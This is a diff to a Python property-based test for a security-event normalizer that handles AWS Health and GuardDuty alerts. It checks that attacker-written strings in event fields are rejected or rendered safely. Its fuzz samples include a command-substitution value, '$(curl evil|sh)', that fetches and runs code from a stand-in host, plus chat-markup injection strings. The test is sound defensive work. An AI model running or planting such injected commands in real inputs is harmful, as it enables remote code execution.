@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import copy
 import json
+import re
 from pathlib import Path
 from typing import Any
 
@@ -26,6 +27,7 @@ REASON_CODES = (
     "archived-finding",
     "no-principal",
     "not-an-event-envelope",
+    "invalid-field",
 )
 
 junk = st.recursive(
@@ -95,3 +97,77 @@ def test_any_mutation_gives_an_incident_or_a_named_reason(event: Any) -> None:
 @given(junk)
 def test_arbitrary_json_is_never_a_crash(value: Any) -> None:
     assert normalize(value).status == IntakeStatus.IGNORED
+
+
+# -- attacker-written strings in every field the normalizer passes on ------------------------------
+
+HEALTH = json.loads(
+    (EVENTS / "health_exposed_key_2025_event_metadata.json")
+    .read_text()
+    .replace("AKIAXXXXXXXXXX", "AKIAIOSFODNN7EXAMPLE")
+    .replace('"1234567890"', '"123456789012"')
+)
+GUARDDUTY = json.loads((EVENTS / "guardduty_exfil_outside_realistic.json").read_text())
+HEALTH_FIELDS = [
+    ("source",),
+    ("detail-type",),
+    ("account",),
+    ("region",),
+    ("resources", 0),
+    ("detail", "eventTypeCode"),
+    ("detail", "service"),
+    ("detail", "affectedAccount"),
+    ("detail", "page"),
+    ("detail", "totalPages"),
+    ("detail", "affectedEntities", 0, "entityValue"),
+    ("detail", "eventMetadata", "publicKey"),
+    ("detail", "eventMetadata", "userName"),
+    ("detail", "eventMetadata", "accountId"),
+    ("detail", "communicationId"),
+    ("detail", "eventArn"),
+]
+GUARDDUTY_FIELDS = [
+    ("account",),
+    ("region",),
+    ("detail", "type"),
+    ("detail", "id"),
+    ("detail", "accountId"),
+    ("detail", "resource", "accessKeyDetails", "accessKeyId"),
+    ("detail", "resource", "accessKeyDetails", "userName"),
+    ("detail", "resource", "instanceDetails", "instanceId"),
+]
+# What a channel would read as markup, a mention, a command or a new line.
+UNSAFE = re.compile(r"[<>&*`~$|!\n\r\t\x00-\x1f\x7f]")
+attacker_text = st.text(max_size=80) | st.sampled_from(
+    ["<!channel>", "*bold*", "a\nb", "$(curl evil|sh)", "`x`", "<https://evil|click>", "x" * 65]
+)
+
+
+def with_value(event: dict, path: tuple, value: str) -> dict:
+    event = copy.deepcopy(event)
+    target = event
+    for part in path[:-1]:
+        target = target[part]
+    target[path[-1]] = value
+    return event
+
+
+@settings(max_examples=600, deadline=None)
+@given(
+    st.sampled_from([(HEALTH, p) for p in HEALTH_FIELDS] + [(GUARDDUTY, p) for p in GUARDDUTY_FIELDS]), attacker_text
+)
+def test_an_attackers_string_in_any_field_is_validated_or_shown_safely(seed_and_path: Any, value: str) -> None:
+    seed, path = seed_and_path
+    intake = normalize(with_value(seed, path, value))
+    if intake.status == IntakeStatus.IGNORED:
+        assert not UNSAFE.search(intake.reason), intake.reason
+        assert intake.reason.split(":", 1)[0] in REASON_CODES
+        return
+    incident = intake.incident
+    assert incident is not None
+    for text in [incident.account, incident.region, *incident.access_key_ids, *incident.user_names]:
+        assert re.fullmatch(r"[A-Za-z0-9_+=,.@-]+", text), text
+    assert re.fullmatch(r"\d{12}", incident.account)
+    assert not UNSAFE.search(incident.incident_id), incident.incident_id
+    for name in filter(None, [incident.role_name, incident.instance_id, *incident.user_names]):
+        assert len(name) <= 64 and not UNSAFE.search(name)
